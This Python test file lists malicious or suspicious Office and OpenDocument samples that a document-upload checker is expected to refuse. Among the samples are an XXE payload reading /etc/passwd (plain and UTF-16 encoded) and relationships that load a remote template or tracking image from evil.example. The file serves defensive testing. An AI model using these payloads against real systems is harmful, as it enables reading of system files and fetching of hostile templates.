"""Office documents that run, fetch or hide something."""

from storage.documents.checks.refusals import Reason
from tests.storage.documents.corpus.case import Case
from tests.storage.documents.corpus.making import links, text_document, word

MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
XXE = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document>&x;</w:document>'
XXE_16 = XXE.decode().encode("utf-16")
ENCRYPTED = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1016) + "EncryptedPackage".encode("utf-16-le") + bytes(512)
OLD_WORD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1016) + "WordDocument".encode("utf-16-le") + bytes(512)
MANIFEST = (
    b'<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:m"><manifest:file-entry>'
    b"<manifest:encryption-data/></manifest:file-entry></manifest:manifest>"
)
TEMPLATE = "word/_rels/settings.xml.rels"

CASES = (
    Case("a Word document with macros", "a.docx", lambda: word({"word/vbaProject.bin": b"x"}), Reason.ACTIVE),
    Case("a macro document, by its type", "a.docx", lambda: word(main=MACRO_MAIN), Reason.ACTIVE),
    Case("a DOCM", "a.docm", lambda: word({"word/vbaProject.bin": b"x"}, main=MACRO_MAIN), Reason.ACTIVE),
    Case("an ActiveX", "a.docx", lambda: word({"word/activeX/activeX1.xml": b"<a/>"}), Reason.ACTIVE),
    Case("an embedded OLE object", "a.docx", lambda: word({"word/embeddings/oleObject1.bin": b"x"}), Reason.ACTIVE),
    Case(
        "a template from elsewhere",
        "a.docx",
        lambda: word({TEMPLATE: links("http://evil.example/t.dotm", "attachedTemplate")}),
        Reason.ACTIVE,
    ),
    Case(
        "an image from elsewhere",
        "a.docx",
        lambda: word({"word/_rels/document.xml.rels": links("http://evil.example/pixel", "image")}),
        Reason.ACTIVE,
    ),
    Case("an external entity (XXE)", "a.docx", lambda: word(body=XXE), Reason.ACTIVE),
    Case("an external entity in UTF-16", "a.docx", lambda: word(body=XXE_16), Reason.ACTIVE),
    Case("a Word document under a password", "a.docx", lambda: ENCRYPTED, Reason.PROTECTED),
    Case("an old Word document called DOCX", "a.docx", lambda: OLD_WORD, Reason.DISGUISED),
    Case("an old Word document", "a.doc", lambda: OLD_WORD, Reason.FORBIDDEN),
    Case(
        "an OpenDocument with macros", "a.odt", lambda: text_document({"Basic/script-lc.xml": b"<a/>"}), Reason.ACTIVE
    ),
    Case(
        "an OpenDocument under a password",
        "a.odt",
        lambda: text_document({"META-INF/manifest.xml": MANIFEST}),
        Reason.PROTECTED,
    ),
    Case("a broken Word document", "a.docx", lambda: word(body=b"not xml"), Reason.UNREADABLE),
)
